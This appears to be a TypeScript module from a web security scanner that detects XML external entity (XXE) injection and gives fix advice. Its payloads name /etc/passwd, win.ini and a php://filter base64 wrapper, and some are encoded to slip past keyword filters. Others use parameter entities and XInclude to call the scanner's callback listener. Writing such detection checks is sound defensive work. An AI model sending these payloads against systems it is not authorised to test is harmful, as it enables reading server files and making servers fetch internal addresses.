import { callbackSpot } from '../../model/callbacks.ts';
import { claim, type Experiment, type Step } from '../../model/experiment.ts';
import type { Exchange } from '../../model/http.ts';
import { decodedText } from '../../probe/html/decoded-text.ts';
import { firstMatch } from '../../proof/pattern.ts';
import { fill, newTrialValues } from '../../proof/template.ts';
import { type CheckContext, defineCheck, notApplicable } from '../contract.ts';
import { encodedPasswd, unixFiles, windowsFile } from '../files/traversal-payloads.ts';
import {
  type Awaited,
  type CallbackWay,
  type Called,
  calledExperiment,
  heard,
  sendWays,
} from '../inputs/callback-look.ts';
import type { OpenedInput } from '../inputs/input-request.ts';
import { inputSteps, sendInput } from '../inputs/open-input.ts';
import { inputsToProbe } from '../inputs/probe-inputs.ts';
import { lookAtEach } from './look-at-each.ts';
import { documentAction, documentWith, inOtherCharacters } from './xml-documents.ts';
import { documentBodies, isDocument } from './xml-inputs.ts';

type EntityWay = {
  /** The type of the document is written so that filters of words do not see it. */
  isHidden?: true;
  content: string;
  /** Of the internal subset. */
  declarations: string;
  /** The same without what makes an external one of it. */
  control: { content: string; declarations: string };
};
type Read = { input: OpenedInput; way: EntityWay; pattern: string; detail: string; cvss?: string };
type FoundEntity = Read | (Called<CallbackWay> & { action: 'called'; detail: string; cvss: string });

/** The parser asks for addresses that a document names; that it gives files away was not shown. */
const calledVector = 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:L/I:N/A:N';

const maxInputs = 300;

/** An entity of the document that stands for a file, and the same as a text. */
const entity = (declared: string): EntityWay => ({
  content: '&x;',
  declarations: `<!ENTITY x ${declared}>`,
  control: { content: '&x;', declarations: `<!ENTITY x ${declared.replace(/^(?:SYSTEM|PUBLIC "[^"]*") /, '')}>` },
});

/** An element that stands for a file, in documents that have no type. Source: XInclude 1.0. */
const include = (url: string): EntityWay => {
  const element = (parse: string) =>
    `<i:include xmlns:i="http://www.w3.org/${parse}/XInclude" parse="text" href="${url}"/>`;
  return { content: element('2001'), declarations: '', control: { content: element('1001'), declarations: '' } };
};

const [passwd] = unixFiles;
/** The commonest first; some filters know a keyword, a scheme or both, and PHP gives what would not be XML in base64. */
const ways: readonly { way: EntityWay; file: string; pattern: string }[] = [
  ...(passwd
    ? [
        entity(`SYSTEM "file:///${passwd.path}"`),
        entity(`PUBLIC "‹nonce›" "/${passwd.path}"`),
        entity(`SYSTEM "/${passwd.path}"`),
        include(`file:///${passwd.path}`),
      ].map((way) => ({ way, file: `/${passwd.path}`, pattern: passwd.pattern }))
    : []),
  ...(passwd
    ? [
        {
          way: { ...entity(`SYSTEM "file:///${passwd.path}"`), isHidden: true as const },
          file: `/${passwd.path}`,
          pattern: passwd.pattern,
        },
      ]
    : []),
  {
    way: entity('SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd"'),
    file: '/etc/passwd',
    pattern: encodedPasswd.pattern,
  },
  {
    way: entity(`SYSTEM "file:///c:/${windowsFile.path}"`),
    file: `C:/${windowsFile.path}`,
    pattern: windowsFile.pattern,
  },
];

/** A parser says that it could not open the file of this name. */
const missing = entity('SYSTEM "file:///‹nonce›/‹nonce2›"');
const failure =
  '(?:failed to load|could not load|cannot (?:load|open|find)|could not (?:be found|find)|no such file|not found|unable to open|FileNotFound|failed to open|I/O (?:warning|error))';
const namedFailure = `(?is:${failure}.{0,200}‹nonce›/‹nonce2›|‹nonce›/‹nonce2›.{0,200}${failure})`;

/** A parser of XML opens what a document names. Source: CWE-611, WSTG-INPV-07. */
export const xxe = defineCheck<FoundEntity>({
  id: 'injection.xxe',
  title: 'XML external entity injection (XXE)',
  cwe: 611,
  owasp: 'A02:2025',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
  depth: 'standard',
  visitors: 'each',
  risk: 'safe',

  async detect(context) {
    const inputs = [...(await documentBodies(context)), ...inputsToProbe(context.surface)];
    if (inputs.length === 0) return notApplicable('No page takes a value that may be changed.');
    const looked = await lookAtEach<FoundEntity | Awaited<CallbackWay>>(context, inputs, maxInputs, async (input) => {
      if (!(await isDocument(context, input))) return undefined;
      const read = await look(context, input);
      return read ?? sendWays(context, input, callingWays(input, context.callbacks?.host));
    });
    return heard<FoundEntity, CallbackWay>(context, looked, (called) => ({
      ...called,
      action: 'called',
      detail:
        'The parser called a listener of the audit that the document names; that files can be read was not shown.',
      cvss: calledVector,
    }));
  },

  confirm: (_context, { data }) => data && experimentFor(data),

  explain: {
    description:
      'The value is parsed as XML by a parser that resolves external entities, or XInclude: the content of a file that the document names comes back in the answer.',
    impact:
      'Everybody can read files of the server: source code, settings with passwords and keys. Most parsers open addresses as well, so that the server can be made to ask internal services.',
    sends:
      'Sends XML documents that name `/etc/passwd`, `win.ini`, a file that nobody has, or our listener, in inputs that take XML by their name, value or error messages, and in requests whose JSON may be XML as well.',
    proves:
      'The answer has the form of that file; a document whose entity is a text does not: files are read. Where only an error names the missing file, or the parser calls our listener, that it opens what is named is shown, and not that it can be read.',
    remedy:
      'Turn off document types and external entities: `resolve_entities=False, no_network=True` or `defusedxml` (Python), `setFeature("http://apache.org/xml/features/disallow-doctype-decl", true)` (Java), no `LIBXML_NOENT` and `LIBXML_DTDLOAD` (PHP), `DtdProcessing.Prohibit` (.NET), no `noent` (libxmljs). Turn off XInclude. Accept JSON only where XML is not needed.',
    references: [
      'CWE-611: https://cwe.mitre.org/data/definitions/611.html',
      'WSTG-INPV-07: https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/07-Input_Validation_Testing/07-Testing_for_XML_Injection',
      'OWASP XXE Prevention Cheat Sheet: https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
    ],
  },
});

type SentDocument = EntityWay['control'] & Pick<EntityWay, 'isHidden'>;

function documentFor({ sample }: OpenedInput, { content, declarations, isHidden }: SentDocument): string {
  const document = documentWith(sample, content, declarations);
  return isHidden ? inOtherCharacters(document) : document;
}

/** Documents that name the listener: by both kinds of entities, and by XInclude. */
function callingWays(input: OpenedInput, host: string | undefined): CallbackWay[] {
  if (host === undefined) return [];
  const url = `http://${callbackSpot(host, '‹callback›')}`;
  const action = (content: string, declarations: string) =>
    documentAction(input, documentWith(input.sample, content, declarations));
  const inert = action('&y;', '<!ENTITY y "‹callback›">');
  const entities = `<!ENTITY % x SYSTEM "${url}">%x;<!ENTITY y SYSTEM "${url}">`;
  const including = include(url);
  const named = { action: action('&y;', entities), inert };
  return [named, { action: action(including.content, ''), inert }];
}

async function look(context: CheckContext, input: OpenedInput): Promise<Read | undefined> {
  const values = newTrialValues(context.nonce);
  const send = (document: string) => sendInput(context, input, documentAction(input, document), values);
  const ask = async (way: SentDocument) => (await send(documentFor(input, way))).text;
  const plain = documentFor(input, { content: '‹nonce3›', declarations: '' });
  const cut = plain.slice(0, -3);
  const [whole, broken] = [await send(plain), await send(cut)];
  const isShown = shownOf(whole, fill(plain, values)) !== shownOf(broken, fill(cut, values));
  // Entities that are texts show what of the document comes back.
  const base = await ask({ content: '&x;', declarations: '<!ENTITY x "‹nonce3›">' });
  for (const { way, file, pattern } of isShown ? ways : [])
    if (!firstMatch(pattern, base) && firstMatch(pattern, await ask(way)))
      return { input, way, pattern, detail: `The file ${file} was read.` };
  if (!firstMatch(fill(namedFailure, values), await ask(missing)) || firstMatch(`(?i)${failure}`, await ask(existing)))
    return undefined;
  return {
    input,
    way: missing,
    pattern: namedFailure,
    detail: 'An error names a missing file that the document names; that files can be read was not shown.',
    cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:N/A:N',
  };
}

/** Where a document without its end is answered alike, nothing shows what a parser reads, but perhaps an error of its own. */
const shownOf = ({ status, text }: Exchange, document: string): string =>
  `${status} ${decodedText(text).replaceAll('\\"', '"').replaceAll(document, '')}`;

/** What every Unix has is opened without an error. */
const existing = entity('SYSTEM "file:///etc/passwd"');

function experimentFor(found: FoundEntity): Experiment {
  if ('action' in found)
    return calledExperiment(found, {
      sent: 'The document names an address of the listener with a random word that nothing else contains.',
      called: 'The parser calls that address.',
      control: 'With the word as a text of the document there is nothing to open.',
    });
  const { input, way, pattern } = found;
  const isFailure = way === missing;
  const shown = claim(
    'body',
    'matches',
    pattern,
    isFailure ? 'The error names the file.' : 'The answer has the form of the file.',
  );
  const step = (sent: SentDocument, note: string, expect: Step['expect']): Step[] =>
    inputSteps(input, documentAction(input, documentFor(input, sent)), { note, expect });
  return {
    steps: [
      ...(isFailure
        ? step(existing, 'With a file that is there the parser says nothing of the kind.', [
            claim('body', 'not-matches', `(?i)${failure}`),
          ])
        : []),
      ...step(way, 'The document names a file, and the parser opens it.', [shown]),
    ],
    control: step(
      { ...way.control, ...(way.isHidden && { isHidden: true }) },
      'The same without what makes an external reference of it opens nothing.',
      [shown],
    ),
  };
}
